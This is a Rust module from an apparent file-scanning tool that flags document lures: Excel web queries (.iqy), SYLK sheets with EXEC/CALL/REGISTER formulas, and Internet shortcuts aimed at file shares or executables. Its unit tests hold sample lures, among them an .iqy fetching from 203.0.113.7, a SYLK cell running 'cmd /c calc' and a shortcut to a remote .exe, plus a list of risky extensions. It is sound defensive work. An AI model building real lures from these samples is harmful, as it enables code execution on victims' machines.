//! Text lures that are not scripts but make Office or Explorer fetch or run
//! something: `.iqy` web queries, `.slk` SYLK sheets with Excel 4.0
//! formulas, `.url` Internet shortcuts.

use mozu_model::{Finding, Severity};

use crate::findings::{evidence, finding};

/// Lines of a lure read.
const MAX_LINES: usize = 100_000;
/// Evidence entries listed per finding.
const MAX_EVIDENCE: usize = 20;
/// Characters of a formula or URL quoted.
const QUOTE_CHARS: usize = 300;

/// Extensions that make a `.url` target run code when opened.
const RISKY_TARGET_EXTENSIONS: &[&str] = &[
    "exe",
    "scr",
    "com",
    "pif",
    "bat",
    "cmd",
    "vbs",
    "vbe",
    "js",
    "jse",
    "wsf",
    "wsh",
    "hta",
    "ps1",
    "lnk",
    "dll",
    "msi",
    "cpl",
    "jar",
    "url",
    "iso",
    "img",
    "vhd",
    "vhdx",
    "library-ms",
    "search-ms",
    "settingcontent-ms",
];

/// What a lure reader found.
#[derive(Debug, Default)]
pub(crate) struct LureResult {
    pub(crate) findings: Vec<Finding>,
    pub(crate) texts: Vec<String>,
    pub(crate) patterns: Vec<String>,
}

fn quote(text: &str) -> String {
    text.chars().take(QUOTE_CHARS).collect()
}

/// `.iqy`: `WEB`, a version line (`1`), then the URL; Excel fetches it and
/// may run what comes back (the URLZone / Dridex lures).
pub(crate) fn iqy(text: &str) -> LureResult {
    let mut out = LureResult::default();
    let mut after_web = false;
    for line in text.lines().take(MAX_LINES).map(str::trim) {
        if line.eq_ignore_ascii_case("WEB") {
            after_web = true;
            continue;
        }
        let looks_like_url = line.contains("://") || line.to_ascii_lowercase().starts_with("www.");
        // After `WEB` every URL line counts; before it, only full URLs.
        let wanted = if after_web {
            looks_like_url
        } else {
            line.contains("://")
        };
        if wanted && !out.texts.iter().any(|known| known == line) {
            out.texts.push(line.to_string());
        }
    }
    if !out.texts.is_empty() {
        out.patterns.push("web query".to_string());
        let found = out
            .texts
            .iter()
            .take(MAX_EVIDENCE)
            .map(|url| evidence("iqy.url", quote(url)))
            .collect();
        out.findings.push(finding(
            "script.iqy_web_query",
            Severity::High,
            40,
            "Excel web query (.iqy) fetches content from a URL",
            found,
        ));
    }
    out
}

/// The formula (`E` field) of a SYLK cell record (`C;X1;Y1;E…`), with
/// `;;` (an escaped `;`) unescaped.
fn slk_formula(line: &str) -> Option<String> {
    let rest = line.strip_prefix("C;")?;
    let bytes = rest.as_bytes();
    let mut start = 0;
    loop {
        let mut end = start;
        while end < bytes.len() {
            if bytes[end] == b';' {
                if bytes.get(end + 1) == Some(&b';') {
                    end += 2;
                    continue;
                }
                break;
            }
            end += 1;
        }
        let field = rest.get(start..end.min(bytes.len()))?;
        if let Some(formula) = field.strip_prefix('E') {
            return Some(formula.replace(";;", ";"));
        }
        if end >= bytes.len() {
            return None;
        }
        start = end + 1;
    }
}

/// `.slk`: cells whose formulas call `EXEC`, `CALL` or `REGISTER`.
pub(crate) fn slk(text: &str) -> LureResult {
    let mut out = LureResult::default();
    let mut risky = Vec::new();
    for line in text.lines().take(MAX_LINES) {
        let Some(formula) = slk_formula(line.trim_end()) else {
            continue;
        };
        let upper = formula.to_ascii_uppercase();
        if ["EXEC(", "CALL(", "REGISTER("].iter().any(|call| upper.contains(call)) {
            risky.push(formula.clone());
        }
        out.texts.push(formula);
    }
    if !risky.is_empty() {
        out.patterns.push("EXEC/CALL formula".to_string());
        let found = risky
            .iter()
            .take(MAX_EVIDENCE)
            .map(|formula| evidence("slk.formula", quote(formula)))
            .collect();
        out.findings.push(finding(
            "script.slk_exec",
            Severity::High,
            40,
            "SYLK sheet runs a command through an Excel 4.0 formula",
            found,
        ));
    }
    out
}

/// True when a `.url` target runs code or leaves the web: a file or UNC
/// target, a search-ms query, or a web target named like a program.
fn risky_url_target(url: &str) -> bool {
    let lower = url.trim().to_ascii_lowercase();
    if lower.starts_with("file:") || lower.starts_with("\\\\") || lower.starts_with("search-ms:") {
        return true;
    }
    let path = lower.split(['?', '#']).next().unwrap_or(&lower);
    let last = path.rsplit('/').next().unwrap_or(path);
    last.rsplit_once('.')
        .is_some_and(|(_, ext)| RISKY_TARGET_EXTENSIONS.contains(&ext))
}

/// `.url`: the `URL=` target of an `[InternetShortcut]` (and its icon file,
/// which can point at an attacker's share too).
pub(crate) fn url(text: &str) -> LureResult {
    let mut out = LureResult::default();
    let mut targets = Vec::new();
    for line in text.lines().take(MAX_LINES).map(str::trim) {
        let Some((key, value)) = line.split_once('=') else {
            continue;
        };
        let (key, value) = (key.trim(), value.trim());
        if value.is_empty() {
            continue;
        }
        if key.eq_ignore_ascii_case("URL") {
            targets.push(value.to_string());
            out.texts.push(value.to_string());
        } else if key.eq_ignore_ascii_case("IconFile") {
            out.texts.push(value.to_string());
        }
    }
    if targets.is_empty() {
        return out;
    }
    let risky = targets.iter().any(|target| risky_url_target(target));
    let (severity, score, title) = if risky {
        (
            Severity::High,
            40,
            "Internet shortcut points at a file share or a program",
        )
    } else {
        (Severity::Low, 5, "Internet shortcut points at a web page")
    };
    let found = targets
        .iter()
        .take(MAX_EVIDENCE)
        .map(|target| evidence("url.target", quote(target)))
        .collect();
    out.patterns.push(if risky {
        "shortcut to program".to_string()
    } else {
        "shortcut".to_string()
    });
    out.findings
        .push(finding("script.url_shortcut", severity, score, title, found));
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn iqy_url() {
        let found = iqy("WEB\r\n1\r\nhttp://203.0.113.7/x.dat\r\n");
        assert_eq!(found.texts, vec!["http://203.0.113.7/x.dat".to_string()]);
        assert_eq!(found.findings[0].id, "script.iqy_web_query");
        assert!(iqy("nothing here").findings.is_empty());
    }

    #[test]
    fn slk_exec() {
        let text = "ID;P\r\nC;X1;Y1;K0;E=EXEC(\"cmd /c calc\")\r\nC;X1;Y2;K0;EHALT()\r\nE\r\n";
        let found = slk(text);
        assert_eq!(
            found.texts,
            vec!["=EXEC(\"cmd /c calc\")".to_string(), "HALT()".to_string()]
        );
        assert_eq!(found.findings[0].evidence[0].value, "=EXEC(\"cmd /c calc\")");
        assert!(slk("ID;P\r\nC;X1;Y1;K1\r\n").findings.is_empty());
    }

    #[test]
    fn url_targets() {
        let risky = url("[InternetShortcut]\r\nURL=file://203.0.113.5/share/a.exe\r\n");
        assert_eq!(risky.findings[0].severity, Severity::High);
        assert!(risky_url_target("https://example.com/a.hta?x=1"));
        assert!(risky_url_target("\\\\203.0.113.5\\s\\a.txt"));
        let plain = url("[InternetShortcut]\nURL=https://example.com/\nIconFile=C:\\x.ico\n");
        assert_eq!(plain.findings[0].severity, Severity::Low);
        assert_eq!(plain.texts.len(), 2);
    }
}
